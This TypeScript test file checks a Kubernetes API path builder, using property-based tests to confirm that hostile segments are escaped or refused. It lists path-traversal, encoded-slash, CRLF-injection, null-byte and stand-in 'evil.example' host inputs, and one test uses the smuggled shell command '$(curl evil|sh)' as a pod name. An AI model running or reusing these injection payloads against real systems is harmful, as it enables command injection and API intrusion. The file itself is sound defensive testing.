import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { runs } from '@/e2e/testing/runs'
import { PROBE_PATHS } from '@/lib/contract/probe-paths'
import { anySign } from '@/lib/words/testing/any-sign'
import { json } from '../testing/https-server'
import { startPod } from '../testing/pod'
import {
  isReviewPath,
  type LogQuery,
  listPath,
  logPath,
  type ObjectTarget,
  objectPath,
  probePath,
  reviewPath,
  templateOf,
  versionPath,
  watchPath,
} from './paths'
import type { KubePath } from './types'

const PODS = { group: '', version: 'v1', resource: 'pods', namespace: 'shop' }

const HOSTILE = [
  '..',
  '.',
  '%2e%2e',
  '%252e%252e',
  '%2f',
  'a/b',
  '../../secrets/db?',
  'x\\y',
  '\\..\\',
  '?watch=1',
  '#a',
  'a;b',
  'a b',
  '\0',
  'a\r\nX: y',
  '\u2024\u2024',
  '\uff0f',
  '\ud800',
  'n'.repeat(300),
  '__proto__',
  'constructor',
  '',
  '@evil.example',
  '//evil.example',
  "it's",
  'a|b^c`d{e}',
  'système',
  'web-0',
  'pods',
  'watch',
  'proxy',
  'namespaces',
  'v1',
  'apps',
]

const segment = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 2, arbitrary: fc.string({ unit: anySign, maxLength: 12 }) },
  {
    weight: 2,
    arbitrary: fc.string({
      unit: fc.constantFrom('.', '/', '%', '2', 'e', 'f', '\\', '?', 'a', ':'),
      maxLength: 8,
    }),
  },
)

const target: fc.Arbitrary<ObjectTarget> = fc.record({
  group: fc.oneof(fc.constantFrom('', 'apps', 'rbac.authorization.k8s.io'), segment),
  version: fc.oneof(fc.constant('v1'), segment),
  resource: fc.oneof(fc.constantFrom('pods', 'roles', 'nodes'), segment),
  namespace: fc.oneof(fc.constantFrom('', 'shop'), segment),
  name: segment,
})

/** Every path that one hostile target makes, where it makes one. */
function pathsOf(of: ObjectTarget): { path: KubePath; meant: string[] }[] {
  const start = of.group === '' ? ['api', of.version] : ['apis', of.group, of.version]
  const meant = [...start, ...(of.namespace === '' ? [] : ['namespaces', of.namespace]), of.resource]
  const log: LogQuery = { namespace: of.namespace, pod: of.name, container: of.resource, tailLines: 5 }
  const makers: [() => KubePath, string[]][] = [
    [() => listPath(of), meant],
    [() => objectPath(of), [...meant, of.name]],
    [() => watchPath(of, { resourceVersion: '1', timeoutSeconds: 300 }), meant],
    [() => logPath(log), ['api', 'v1', 'namespaces', of.namespace, 'pods', of.name, 'log']],
  ]
  return makers.flatMap(([make, segments]) => {
    try {
      return [{ path: make(), meant: segments }]
    } catch {
      return []
    }
  })
}

describe('a path', () => {
  it.each([
    ['a core list', listPath(PODS), '/api/v1/namespaces/shop/pods'],
    ['all namespaces', listPath({ ...PODS, namespace: '' }), '/api/v1/pods'],
    [
      'a group',
      objectPath({ group: 'apps', version: 'v1', resource: 'deployments', namespace: 'shop', name: 'web' }),
      '/apis/apps/v1/namespaces/shop/deployments/web',
    ],
    [
      'an RBAC name with a colon',
      objectPath({
        group: 'rbac.authorization.k8s.io',
        version: 'v1',
        resource: 'clusterroles',
        namespace: '',
        name: 'system:node',
      }),
      '/apis/rbac.authorization.k8s.io/v1/clusterroles/system%3Anode',
    ],
    [
      'a name that is shell code',
      objectPath({ ...PODS, name: '$(curl evil|sh)' }),
      '/api/v1/namespaces/shop/pods/%24(curl%20evil%7Csh)',
    ],
    [
      'a list with fields',
      listPath(PODS, { limit: 9000, fields: [['involvedObject.name', 'a=b,c\\d']] }),
      '/api/v1/namespaces/shop/pods?limit=500&fieldSelector=involvedObject.name%3Da%5C%3Db%5C%2Cc%5C%5Cd',
    ],
    [
      'a watch',
      watchPath(PODS, { resourceVersion: '12424', timeoutSeconds: 1e9, includeObject: 'Metadata' }),
      '/api/v1/namespaces/shop/pods?watch=1&allowWatchBookmarks=true&timeoutSeconds=3600&resourceVersion=12424&includeObject=Metadata',
    ],
    [
      'a log',
      logPath({
        namespace: 'shop',
        pod: 'web-0',
        container: 'main',
        tailLines: Number.NaN,
        limitBytes: 1e12,
      }),
      '/api/v1/namespaces/shop/pods/web-0/log?tailLines=1&limitBytes=1048576&container=main',
    ],
    ['a review', reviewPath('selfsubjectreviews'), '/apis/authentication.k8s.io/v1/selfsubjectreviews'],
    [
      'a review in a namespace',
      reviewPath('localsubjectaccessreviews', 'shop'),
      '/apis/authorization.k8s.io/v1/namespaces/shop/localsubjectaccessreviews',
    ],
    ['the version', versionPath(), '/version'],
  ])('of %s is built from its parts', (_, path, expected) => {
    expect(path).toBe(expected)
    expect(templateOf(path)).not.toBeNull()
  })

  it.each(PROBE_PATHS)('of the probe %s is itself', (path) => {
    expect(probePath(path)).toBe(path)
    expect(templateOf(path)).toBe(path)
  })

  it.each([
    [{ ...PODS, namespace: '..' }, 'namespace'],
    [{ ...PODS, resource: 'watch' }, 'resource'],
    [{ ...PODS, resource: 'pods/exec' }, 'resource'],
    [{ ...PODS, group: 'apps/v1' }, 'group'],
    [{ ...PODS, version: 'v1/namespaces' }, 'version'],
    [{ ...PODS, name: '..' }, 'name'],
    [{ ...PODS, name: 'a%2fb' }, 'name'],
    [{ ...PODS, name: '\ud800' }, 'name'],
    [{ ...PODS, name: 'n'.repeat(254) }, 'name'],
  ])('of %j is refused by the field %s', (of, field) => {
    expect(() => objectPath({ name: 'web-0', ...of })).toThrow(field)
  })

  it('means, after the URL parser and the API server have read it, what the parts of a hostile target said', () => {
    let made = 0
    fc.assert(
      fc.property(target, (of) => {
        for (const { path, meant } of pathsOf(of)) {
          made += 1
          const url = new URL(path, 'https://10.96.0.1')
          // splitPath of requestinfo.go works on the decoded path.
          expect(decodeURIComponent(url.pathname).split('/').slice(1)).toEqual(meant)
          expect(templateOf(path)).not.toBeNull()
        }
      }),
      { numRuns: runs(20_000), seed: 1 },
    )
    expect(made).toBeGreaterThan(runs(5_000))
  })

  it('reaches the wire as it was made, and hostile ones never do', async () => {
    const { kube, server } = await startPod((_, response) => json(response, {}))
    const allowed = new Set<string>()
    for (const of of fc.sample(target, 300)) {
      for (const { path } of pathsOf(of)) {
        allowed.add(path)
        await kube.probe(path, { accept: 'table' })
      }
    }
    expect(server.requests.length).toBeGreaterThan(50)
    expect(server.requests.filter(({ method, url }) => method !== 'GET' || !allowed.has(url))).toEqual([])
  })
})

describe('isReviewPath', () => {
  it.each([
    '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
    '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews',
    '/apis/authorization.k8s.io/v1/subjectaccessreviews',
    '/apis/authorization.k8s.io/v1/namespaces/shop/localsubjectaccessreviews',
    '/apis/authentication.k8s.io/v1/selfsubjectreviews',
  ])('is true of %s', (path) => {
    expect(isReviewPath(path)).toBe(true)
  })

  it.each([
    '/apis/authentication.k8s.io/v1/tokenreviews',
    '/apis/authorization.k8s.io/v1/namespaces/shop/subjectaccessreviews',
    '/apis/authorization.k8s.io/v1/localsubjectaccessreviews',
    '/apis/authorization.k8s.io/v1/namespaces//localsubjectaccessreviews',
    '/apis/authorization.k8s.io/v1/namespaces/../localsubjectaccessreviews',
    '/apis/authorization.k8s.io/v1/namespaces/sh%6fp/localsubjectaccessreviews',
    '/apis/authorization.k8s.io/v1/namespaces/shop/localsubjectaccessreviews/x',
    '/apis/authorization.k8s.io/v1/namespaces/shop/localsubjectaccessreviews?dryRun=All',
    '/apis/authorization.k8s.io/v2/namespaces/shop/localsubjectaccessreviews',
    '/apis/rbac.authorization.k8s.io/v1/namespaces/shop/rolebindings',
    '/api/v1/namespaces/shop/serviceaccounts/web/token',
  ])('is false of %s', (path) => {
    expect(isReviewPath(path)).toBe(false)
  })

  it.each(['', '..', 'a/b', 'Shop', 'n'.repeat(64)])('is never made for namespace %j', (namespace) => {
    expect(() => reviewPath('localsubjectaccessreviews', namespace)).toThrow()
  })
})

describe('templateOf', () => {
  it.each([
    ['/api/v1/namespaces/shop/pods/web-0', '/api/{version}/namespaces/{namespace}/{resource}/{name}'],
    ['/api/v1/namespaces/shop', '/api/{version}/{resource}/{name}'],
    ['/apis/apps/v1', '/apis/{group}/{version}'],
    [
      '/api/v1/namespaces/shop/pods/web-0/log?tailLines=1',
      '/api/{version}/namespaces/{namespace}/pods/{name}/log',
    ],
  ])('of %s is %s', (path, template) => {
    expect(templateOf(path)).toBe(template)
  })

  it.each([
    '/api/v1/namespaces/shop/pods/web-0/exec',
    '/api/v1/namespaces/shop/services/web/log',
    '/apis/apps/v1/namespaces/shop/pods/web-0/log',
    '/api/v1/nodes/n/proxy',
    '/api/v1/watch/pods',
    '/api/v1/proxy/nodes/n',
    '/api/v1/namespaces/shop/pods/..%2f..%2fsecrets',
    '/api/v1/namespaces/shop/../kube-system/pods',
    '/api/v1/pods?dryRun=All',
    '/api/v1/pods?watch=1&watch=0',
    '/apis//v1/pods',
    '//evil.example/api/v1/pods',
    'https://evil.example/api/v1/pods',
    '/logs',
    '/debug/pprof',
    '',
  ])('of %j is null', (path) => {
    expect(templateOf(path)).toBeNull()
  })

  it('never throws', () => {
    fc.assert(fc.property(fc.string({ unit: anySign }), (text) => void templateOf(`/api/v1/${text}`)))
  })
})
